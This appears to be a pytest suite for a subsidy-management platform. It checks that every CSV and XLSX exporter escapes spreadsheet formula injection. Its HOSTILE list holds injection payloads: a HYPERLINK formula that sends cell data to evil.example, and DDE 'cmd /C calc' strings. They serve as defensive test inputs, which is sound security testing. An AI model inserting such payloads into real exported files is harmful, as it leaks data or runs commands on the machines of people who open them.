"""Every export is safe to open: each exporter of the platform is fed hostile cell values and no
CSV field may start a formula and no XLSX cell may be one; hostile text stays readable."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from huiqi.core.export import DANGEROUS_FIRST, csv_bytes, safe_cell
from huiqi.enterprise import importer, population
from huiqi.grants import service as grants
from huiqi.policy import export as policy_export
from huiqi.policy.service import TaskRow
from huiqi.reports.funnel import FunnelRow, funnel_csv

SRC = Path(__file__).resolve().parents[1] / "src" / "huiqi"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击领取补贴")',
    "+1+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def assert_csv_safe(data: bytes) -> list[list[str]]:
    """No field starts with a formula character unless it is a plain number."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for value in row:
            assert not value.startswith(DANGEROUS_FIRST) or NUMBER.fullmatch(value), value
    return rows


def assert_xlsx_safe(data: bytes) -> list[object]:
    """No cell of any sheet is a formula, and no text starts like one."""
    book = load_workbook(io.BytesIO(data))
    values: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_FIRST), cell.value
                values.append(cell.value)
    return values


def assert_readable(texts: list[object]) -> None:
    """Every hostile value is still there, behind the quote."""
    flat = [str(t) for t in texts]
    for bad in HOSTILE:
        assert "'" + bad in flat, bad


def test_safe_cell_rules() -> None:
    for bad in HOSTILE:
        assert safe_cell(bad) == "'" + bad
    assert safe_cell(-5) == -5 and safe_cell(12.5) == 12.5  # real numbers stay numbers
    assert safe_cell("-35.63") == "-35.63"  # a negative figure as text is no formula
    assert safe_cell("+1") == "'+1" and safe_cell("-1+cmd") == "'-1+cmd"
    assert safe_cell("兰州甲机械有限公司") == "兰州甲机械有限公司"
    assert safe_cell("6228480012345678901") == "6228480012345678901"
    assert safe_cell(None) is None
    assert_csv_safe(csv_bytes(["h"], [[-5], ["-5"]]))  # a negative number is no formula


def _disbursement_rows() -> list[list[object]]:
    return [
        [i, "91620102MA7GRA01X", bad, bad, bad, "6228480012345678901", "24000.00", 2_400_000]
        + [bad, bad, 1, 2023, bad, "2024-07-01 10:00", 7]
        for i, bad in enumerate(HOSTILE, 1)
    ]


def _tasks() -> list[TaskRow]:
    return [TaskRow(1, bad, bad, 1, bad, bad, bad, [bad], [bad], [bad], [bad]) for bad in HOSTILE]


def _population_rows() -> list[dict[str, str]]:
    return [{"name": bad, "credit_code": bad, "region_code": bad} for bad in HOSTILE]


def test_disbursement_files() -> None:
    rows = _disbursement_rows()
    parsed = assert_csv_safe(grants.disbursement_csv(rows))
    assert_readable([v for row in parsed for v in row])
    assert parsed[1][7] == "2400000"  # amounts stay numbers
    values = assert_xlsx_safe(grants.disbursement_xlsx(rows))
    assert_readable(values)
    assert 2_400_000 in values


def test_policy_task_breakdown() -> None:
    parsed = assert_csv_safe(policy_export.to_csv(_tasks()))
    assert_readable([v for row in parsed for v in row])
    assert_readable(assert_xlsx_safe(policy_export.to_xlsx(_tasks())))


def test_push_funnel() -> None:
    rows = [FunnelRow(bad, bad, bad, eligible=3, notified=2) for bad in HOSTILE]
    parsed = assert_csv_safe(funnel_csv(rows))
    assert_readable([v for row in parsed for v in row])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_population_files(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"population{suffix}"
    population.write_file(_population_rows(), out)
    if suffix == ".csv":
        parsed = assert_csv_safe(out.read_bytes())
        assert_readable([v for row in parsed for v in row])
    else:
        assert_readable(assert_xlsx_safe(out.read_bytes()))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("hires", [False, True])
def test_import_templates(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str, hires: bool
) -> None:
    # the template's example row, with hostile examples in its first columns
    monkeypatch.setattr(
        importer.template,
        "_EXAMPLE",
        {**importer.template._EXAMPLE, "credit_code": HOSTILE[0], "name": HOSTILE[1]},
    )
    out = tmp_path / f"template{suffix}"
    importer.write_template(out, hires=hires)
    if suffix == ".csv":
        assert_csv_safe(out.read_bytes())
    else:
        values = assert_xlsx_safe(out.read_bytes())
        if not hires:
            assert "'" + HOSTILE[0] in values and "'" + HOSTILE[1] in values


def test_import_error_report(tmp_path: Path, session_maker: sessionmaker[Session]) -> None:
    source = tmp_path / "hostile.csv"
    header = [c.header_zh for c in importer.template_columns()]
    with source.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        for bad in HOSTILE:
            row = {"统一社会信用代码": bad, "企业名称": bad, "所在地行政区划代码": bad}
            writer.writerow([row.get(h, "") for h in header])
    report_path = tmp_path / "errors.csv"
    report = importer.run_import(session_maker, source, errors_path=report_path)
    assert report.rejected == len(HOSTILE)
    parsed = assert_csv_safe(report_path.read_bytes())
    echoed = [row[2] for row in parsed[1:]]
    assert any(v.startswith("'=HYPERLINK") for v in echoed)


# Every module that writes CSV or XLSX, and the test above that feeds it hostile values.
EXPORTERS: dict[str, Callable[..., None]] = {
    "grants/disbursement.py": test_disbursement_files,
    "policy/export.py": test_policy_task_breakdown,
    "reports/funnel.py": test_push_funnel,
    "enterprise/population.py": test_population_files,
    "enterprise/importer/job.py": test_import_error_report,
    "enterprise/importer/template.py": test_import_templates,
}


def test_every_writer_goes_through_the_safe_block() -> None:
    """A new exporter must use huiqi.core.export and be added above, not call the raw writers."""
    raw = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(")
    writers = {
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if raw.search(path.read_text(encoding="utf-8"))
    }
    assert writers - {"core/export.py"} <= set(EXPORTERS), writers - set(EXPORTERS)
    for name in EXPORTERS:
        text = (SRC / name).read_text(encoding="utf-8")
        assert "csv.writer(" not in text and "csv.DictWriter(" not in text, name
        if "openpyxl" in text:  # worksheet rows go through append_row
            assert re.search(r"\bsheet\.append\(|\bnotes\.append\(", text) is None, name
